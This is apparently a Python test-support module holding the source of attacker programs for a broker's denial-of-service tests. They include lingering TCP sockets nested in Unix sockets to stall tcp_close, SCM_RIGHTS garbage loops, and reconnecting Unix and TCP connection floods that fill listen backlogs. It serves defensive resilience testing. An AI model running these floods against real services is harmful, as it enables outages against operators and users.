"""
Pieces of attacker programs shared by the attack tests.  Attackers run as a
real UID 1000 process (C{python -c SOURCE}), so their code is source text.
"""

#: Defines C{lingering(linger)} (and a list C{keep}): a loopback TCP socket
#: whose peer never reads, with its send queue full and C{SO_LINGER {1,
#: linger}}, so that whoever drops its last reference waits C{linger}
#: seconds in C{tcp_close}.  Needs C{socket}, C{struct} and C{time}.
LINGERING_SOCKET = r'''
keep = []
def lingering(linger):
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    sock.connect(listener.getsockname())
    sock.setblocking(False)
    full = 0
    while full < 3:  # until the peer's window and our queue stay full
        try:
            sock.send(b"x" * 65536)
            full = 0
        except BlockingIOError:
            full += 1
            time.sleep(0.01)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, linger))
    keep.append(listener)
    return sock
'''

#: Defines C{nested(linger, how)} (with L{LINGERING_SOCKET}'s pieces): a Unix
#: socket whose receive queue holds a lingering TCP socket, so that whoever
#: drops the outer socket's last reference waits in C{tcp_close} too.  C{how}:
#: C{"nested"} (Unix -> TCP), C{"double"} (Unix -> Unix -> TCP) or
#: C{"garbage"} (a Unix socket carrying itself and the TCP socket: garbage
#: once its holder closes it, freed only by the kernel's collector).  The
#: peers that sent into the queues are kept in C{keep}.  Needs C{array},
#: C{socket}, C{struct} and C{time}.
#:
#: Whoever closes the outer socket last waits, and that may be the attacker
#: itself (the broker can close its copy before the attacker's own close
#: returns): an interval timer interrupts the attacker's own lingering
#: closes, so it never hangs in one.
NESTED_LINGERING_SOCKETS = LINGERING_SOCKET + r'''
import signal
signal.signal(signal.SIGALRM, lambda *_: None)
signal.siginterrupt(signal.SIGALRM, True)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
def carrying(*inner):
    outer, peer = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    fds = [s.fileno() for s in inner] or [outer.fileno()]
    peer.sendmsg([b"n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
    keep.append(peer)
    return outer, peer
def nested(linger, how):
    tcp = lingering(linger)
    if how == "nested":
        outer, _ = carrying(tcp)
    elif how == "double":
        middle, _ = carrying(tcp)
        outer, _ = carrying(middle)
        middle.close()
    else:
        outer, peer = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        peer.sendmsg([b"n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                               array.array("i", [tcp.fileno(), outer.fileno()]))])
        keep.append(peer)
    tcp.close()
    return outer
'''

#: An idle flood: N silent connections to argv[1]; with argv[3] ==
#: "reconnect" each one the broker closes is opened again at once (a blocking
#: connect: it waits for room in the listen backlog).  It prints "ready" once
#: N are open and runs until killed.  Standard library only.
IDLE_FLOOD = r"""
import selectors, socket, sys
path, n, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
selector = selectors.DefaultSelector()
def open_one():
    while True:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            sock.connect(path)
        except BlockingIOError:
            sock.close()
            continue
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
        return
for _ in range(n):
    open_one()
print("ready", flush=True)
while True:
    for key, _ in selector.select():
        try:
            data = key.fileobj.recv(64)
        except ConnectionError:
            data = b""
        if not data:
            selector.unregister(key.fileobj)
            key.fileobj.close()
            if mode == "reconnect":
                open_one()
"""

#: A reconnecting flood as fast as one process can make it (one tenant): N
#: idle connections to argv[1], each reopened the moment the broker closes
#: it, with non-blocking connects (one failing with EAGAIN, the backlog
#: being full, is tried again a millisecond later), so a slot freed in the
#: listen backlog is taken again at once.  Prints "ready" once N connects
#: were tried, then "flooding" each time the broker has closed N of its
#: connections; runs until killed.  Standard library only.
RECONNECTING_FLOOD = r"""
import select, socket, sys
path, n = sys.argv[1], int(sys.argv[2])
poller = select.epoll()
held = {}
retry = 0
def open_one():
    global retry
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    try:
        sock.connect(path)
    except BlockingIOError:
        sock.close()
        retry += 1
        return
    held[sock.fileno()] = sock
    poller.register(sock.fileno(), select.EPOLLIN)
for _ in range(n):
    open_one()
print("ready", flush=True)
closed = 0
while True:
    for fd, _ in poller.poll(0.001 if retry else -1, 512):
        poller.unregister(fd)
        held.pop(fd).close()
        closed += 1
        if closed % n == 0:
            print("flooding", flush=True)
        open_one()
    pending, retry = retry, 0
    for _ in range(pending):
        open_one()
"""

#: Defines C{nested_many(linger, count)} (with L{NESTED_LINGERING_SOCKETS}'
#: pieces): C{count} Unix sockets, each carrying one lingering TCP socket in
#: its receive queue, as C{nested(linger, "nested")} makes one.  The TCP
#: sockets' queues are filled side by side, so that making a hundred costs
#: about what making one does (each waits for its peer's window to stay
#: shut): a flood of them at tens a second from one process.
NESTED_LINGERING_MANY = NESTED_LINGERING_SOCKETS + r'''
def lingering_many(linger, count):
    socks = []
    for _ in range(count):
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        keep.append(listener)
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        sock.connect(listener.getsockname())
        sock.setblocking(False)
        socks.append(sock)
    full = dict.fromkeys(socks, 0)
    while any(n < 3 for n in full.values()):
        for sock, n in full.items():
            if n >= 3:
                continue
            try:
                sock.send(b"x" * 65536)
                full[sock] = 0
            except BlockingIOError:
                full[sock] = n + 1
        time.sleep(0.01)
    for sock in socks:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, linger))
    return socks
def nested_many(linger, count):
    outers = []
    for tcp in lingering_many(linger, count):
        outer, _ = carrying(tcp)
        tcp.close()
        outers.append(outer)
    return outers
'''

#: A TCP connect flood from one process (any pod that reaches a port):
#: N connections to argv[1]:argv[2] kept in flight, non-blocking, each one
#: the server closes (or that fails) replaced at once, so the listen
#: backlog stays full and whoever else connects waits for a free place
#: there.  Prints "ready" once N connects are in flight; on SIGTERM prints
#: the number of connects made ("connects N") and exits.  Standard library
#: only.
TCP_CONNECT_FLOOD = r"""
import select, signal, socket, sys
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
poller = select.epoll()
held = {}
made = 0
def stop(*_):
    print(f"connects {made}", flush=True)
    sys.exit(0)
signal.signal(signal.SIGTERM, stop)
def open_one():
    global made
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    made += 1
    try:
        sock.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        sock.close()
        return False
    held[sock.fileno()] = sock
    poller.register(sock.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
    return True
for _ in range(n):
    open_one()
print("ready", flush=True)
while True:
    for fd, _ in poller.poll(0.01, 512):
        poller.unregister(fd)
        held.pop(fd).close()
    while len(held) < n and open_one():
        pass
"""
